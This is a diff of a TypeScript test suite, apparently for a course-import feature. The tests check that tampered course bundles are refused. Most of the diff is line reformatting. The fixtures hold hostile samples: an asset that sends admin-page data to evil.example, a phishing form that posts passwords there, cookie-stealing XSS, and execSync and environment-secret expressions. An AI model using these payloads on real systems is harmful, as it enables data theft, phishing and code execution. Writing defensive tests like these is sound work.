@@ -39,7 +39,14 @@ function tampered(files: Record<string, Buffer>): Buffer {
     if (at >= 0) bundle.files[at] = entry;
     else bundle.files.push(entry);
   }
-  bundle.courseVersion = createHash('sha256').update([...bundle.files].sort((a, b) => (a.path < b.path ? -1 : 1)).map((f) => `${f.path}\0${f.sha256}\n`).join('')).digest('hex');
+  bundle.courseVersion = createHash('sha256')
+    .update(
+      [...bundle.files]
+        .sort((a, b) => (a.path < b.path ? -1 : 1))
+        .map((f) => `${f.path}\0${f.sha256}\n`)
+        .join(''),
+    )
+    .digest('hex');
   return gzipSync(Buffer.from(JSON.stringify(bundle)));
 }
 
@@ -56,7 +63,14 @@ async function refusedImport(bytes: Buffer): Promise<{ message: string; left: st
     message = (error as Error).message;
   }
   const staging = join(root, 'data', 'course-imports');
-  return { message, left: [...readdirSync(courses), ...(existsSync(staging) ? readdirSync(staging) : []), ...readdirSync(root).filter((n) => n.startsWith('.'))] };
+  return {
+    message,
+    left: [
+      ...readdirSync(courses),
+      ...(existsSync(staging) ? readdirSync(staging) : []),
+      ...readdirSync(root).filter((n) => n.startsWith('.')),
+    ],
+  };
 }
 
 describe('an imported course cannot run code', () => {
@@ -72,13 +86,17 @@ describe('an imported course cannot run code', () => {
     expect(message).toContain(`${lesson.path}:${line('import {')}: ESM import`);
     expect(message).toContain(`${lesson.path}:${line('Built by')}: JavaScript expression {execSync('id').toString()}`);
     expect(message).toContain('JavaScript expression {process.env.OQU_SECRET}');
-    expect(message).toContain(`${lesson.path}:${line('<Callout')}: attribute expression title={process.env.HOME} on <Callout>`);
+    expect(message).toContain(
+      `${lesson.path}:${line('<Callout')}: attribute expression title={process.env.HOME} on <Callout>`,
+    );
     expect(left).toEqual([]);
   });
 
   test('unknown components, raw script elements, layouts and javascript: links are refused', async () => {
     const lesson = original.files.find((f) => f.path.endsWith('.kk.mdx'))!;
-    const text = Buffer.from(lesson.content, lesson.encoding).toString('utf8').replace(/^---\n/, '---\nlayout: ../../../src/cli/keys.ts\n');
+    const text = Buffer.from(lesson.content, lesson.encoding)
+      .toString('utf8')
+      .replace(/^---\n/, '---\nlayout: ../../../src/cli/keys.ts\n');
     const hostile = `${text}\n<script src="/course-assets/urbanism/evil.js"></script>\n\n<Steal {...props} />\n\n[sign in](javascript:fetch('/x'))\n`;
     const { message, left } = await refusedImport(tampered({ [lesson.path]: Buffer.from(hostile) }));
     expect(message).toMatch(/front matter field "layout"/);
@@ -91,8 +109,12 @@ describe('an imported course cannot run code', () => {
   test('assets that are script, a web page, or a web page named .png are refused', async () => {
     const { message, left } = await refusedImport(
       tampered({
-        'assets/evil.js': Buffer.from("fetch('/en/admin/users').then((r) => r.text()).then(navigator.sendBeacon.bind(navigator, 'https://evil.example'))"),
-        'assets/phish.html': Buffer.from('<!doctype html><form action="https://evil.example"><input name="password"></form>'),
+        'assets/evil.js': Buffer.from(
+          "fetch('/en/admin/users').then((r) => r.text()).then(navigator.sendBeacon.bind(navigator, 'https://evil.example'))",
+        ),
+        'assets/phish.html': Buffer.from(
+          '<!doctype html><form action="https://evil.example"><input name="password"></form>',
+        ),
         'assets/photo.png': Buffer.from('<html><script>alert(document.cookie)</script></html>'),
         'assets/plan.svg': Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
         '01-evil/payload.mjs': Buffer.from("import('node:child_process').then((c) => c.execSync('id'))"),
@@ -136,10 +158,19 @@ describe('course assets as served', () => {
     const browser = await launchBrowser();
     try {
       const page = await browser.newPage();
-      await page.goto(new URL('/en/courses/example-course/writing-a-lesson/', w.server.baseURL).href, { waitUntil: 'load' });
-      const width = await page.locator('img[src$="course-structure.svg"]').evaluate((img: HTMLImageElement) => img.naturalWidth);
+      await page.goto(new URL('/en/courses/example-course/writing-a-lesson/', w.server.baseURL).href, {
+        waitUntil: 'load',
+      });
+      const width = await page
+        .locator('img[src$="course-structure.svg"]')
+        .evaluate((img: HTMLImageElement) => img.naturalWidth);
       expect(width).toBeGreaterThan(0);
-      const [download] = await Promise.all([page.waitForEvent('download'), page.goto(new URL('/course-assets/example-course/course-structure.svg', w.server.baseURL).href).catch(() => null)]);
+      const [download] = await Promise.all([
+        page.waitForEvent('download'),
+        page
+          .goto(new URL('/course-assets/example-course/course-structure.svg', w.server.baseURL).href)
+          .catch(() => null),
+      ]);
       expect(download.suggestedFilename()).toBe('course-structure.svg');
     } finally {
       await browser.close();
